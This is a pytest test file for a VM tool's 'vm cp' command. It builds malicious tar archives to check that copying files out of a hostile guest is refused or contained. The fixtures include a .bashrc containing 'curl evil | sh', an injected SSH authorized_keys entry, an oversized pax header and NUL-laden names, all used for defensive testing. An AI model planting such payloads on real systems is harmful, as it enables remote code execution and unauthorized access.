"""`vm cp box:SRC DST` against a hostile guest, at the CLI's extraction (cli/cp.py):
what the guest sends lands only where cp would put the copy, with the user's umask."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from banger.cli import cp
from banger.cli.cppath import pair


def _tar(entries: list[tuple[str, bytes | None, int]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data, mode in entries:
            info = tarfile.TarInfo(name)
            info.mode, info.mtime = mode, 1_000_000
            if data is None:
                info.type = tarfile.DIRTYPE
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _copy_out(guest_tar: bytes, src: str, dst: str, recursive: bool = True) -> None:
    s, d = pair(src, dst)
    cp._extract(iter([guest_tar]), s, d, recursive, cp._Progress())


def test_a_guest_cannot_name_files_beside_the_copy(tmp_path: Path) -> None:
    """cp box:/root/log.txt ~/ : the guest answers with .bashrc instead."""
    home = tmp_path / "home"
    home.mkdir()
    evil = _tar([(".bashrc", b"curl evil | sh\n", 0o644)])
    _copy_out(evil, "box:/root/log.txt", str(home))
    assert not (home / ".bashrc").exists()
    assert os.listdir(home) == ["log.txt"]  # the guest's bytes, under the asked name


def test_a_guest_cannot_add_a_second_tree(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    evil = _tar([("log", None, 0o755), ("log/a", b"1", 0o644), (".ssh", None, 0o700),
                 (".ssh/authorized_keys", b"ssh-ed25519 AAAA evil\n", 0o600)])
    with pytest.raises(cp.CpError):
        _copy_out(evil, "box:/root/log", str(home))
    assert not (home / ".ssh").exists()
    assert (home / "log/a").read_bytes() == b"1"  # what came before the refusal stays


def test_the_copy_takes_the_guest_paths_name(tmp_path: Path) -> None:
    into = tmp_path / "into"
    into.mkdir()
    _copy_out(_tar([("other", None, 0o755), ("other/f", b"x", 0o644)]),
              "box:/root/tree/", str(into))
    assert (into / "tree/f").read_bytes() == b"x"
    assert not (into / "other").exists()


def test_modes_from_the_guest_go_through_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        _copy_out(_tar([("t", None, 0o777), ("t/f", b"x", 0o666), ("t/x", b"#!", 0o777)]),
                  "box:/root/t", str(tmp_path / "out"))
    finally:
        os.umask(old)
    out = tmp_path / "out"
    assert out.stat().st_mode & 0o777 == 0o755
    assert (out / "f").stat().st_mode & 0o777 == 0o644
    assert (out / "x").stat().st_mode & 0o777 == 0o755  # exec bits kept


class _Probe:
    """A client whose guest answers the kind probe of an upload's DST with a pax header
    that claims 1 GiB, then zeros for as long as they are read."""

    def __init__(self) -> None:
        self.chunks_read = 0

    def get_files(self, vm: str, path: str) -> object:
        header = tarfile.TarInfo("x")
        header.type, header.size = tarfile.XHDTYPE, 1 << 30
        first = header.tobuf(format=tarfile.USTAR_FORMAT)

        def gen() -> object:
            yield first
            while True:
                self.chunks_read += 1
                yield bytes(1 << 20)
        return gen()


def test_the_kind_probe_holds_no_huge_header_from_the_guest() -> None:
    """`vm cp ./f box:/root/x` asks what /root/x is; a hostile guest's answer is read
    under the extraction's header cap, not into memory whole."""
    probe = _Probe()
    with pytest.raises(cp.CpError, match="extension header"):
        cp._guest_kind(probe, "box", "/root/x")  # type: ignore[arg-type]
    assert probe.chunks_read <= 2


class _Recorder:
    """A client that takes an upload's tar (DST given with a trailing /: no probe)."""

    def __init__(self) -> None:
        self.names: list[str] = []

    def put_files(self, vm: str, into: str, body: object) -> None:
        data = b"".join(body)  # type: ignore[call-overload]
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            self.names = tar.getnames()


def test_a_symlink_named_on_the_command_line_is_copied_under_its_own_name(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """cp and scp: `cp ./current box:/root/` makes /root/current, not /root/v1.2.3."""
    (tmp_path / "v1.2.3").write_bytes(b"release")
    (tmp_path / "current").symlink_to("v1.2.3")
    monkeypatch.chdir(tmp_path)
    s, d = pair("./current", "box:/root/")
    client = _Recorder()
    cp._upload(client, s, d, False, cp._Progress())  # type: ignore[arg-type]
    assert client.names == ["current"]


@pytest.mark.parametrize("mtime", ["1e300", "nan", "-1e300"])
def test_an_impossible_mtime_is_a_refusal_not_a_crash(tmp_path: Path, mtime: str) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("f")
        info.size, info.pax_headers = 1, {"mtime": mtime}
        tar.addfile(info, io.BytesIO(b"x"))
    with pytest.raises(cp.CpError, match="mtime"):
        _copy_out(buf.getvalue(), "box:/root/f", str(tmp_path / "f"))
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("pax", [{"path": "t/a\0b"}, {"linkpath": "x\0y"}])
def test_a_nul_in_a_name_or_link_is_a_refusal_not_a_crash(tmp_path: Path,
                                                          pax: dict[str, str]) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        top = tarfile.TarInfo("t")
        top.type = tarfile.DIRTYPE
        tar.addfile(top)
        info = tarfile.TarInfo("t/l")
        info.type, info.linkname, info.pax_headers = tarfile.SYMTYPE, "ok", pax
        tar.addfile(info)
    with pytest.raises(cp.CpError, match="NUL"):
        _copy_out(buf.getvalue(), "box:/root/t", str(tmp_path / "t"))


def test_a_tar_from_the_guest_is_never_written_to_a_terminal(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """`vm cp box:/x -` with stdout a terminal: the guest's bytes (escape sequences
    included) would go to it raw; refused before asking, as GNU tar does."""
    class Tty(io.BytesIO):
        def isatty(self) -> bool:
            return True

    class Out:
        buffer = Tty()

        def isatty(self) -> bool:
            return True

    class NoClient:
        def get_files(self, vm: str, path: str) -> object:
            raise AssertionError("asked the guest")

    monkeypatch.setattr(cp.sys, "stdout", Out())
    s, d = pair("box:/root/x", "-")
    with pytest.raises(cp.CpError, match="terminal"):
        cp._download(NoClient(), s, d, True, cp._Progress())  # type: ignore[arg-type]
    assert Out.buffer.getvalue() == b""
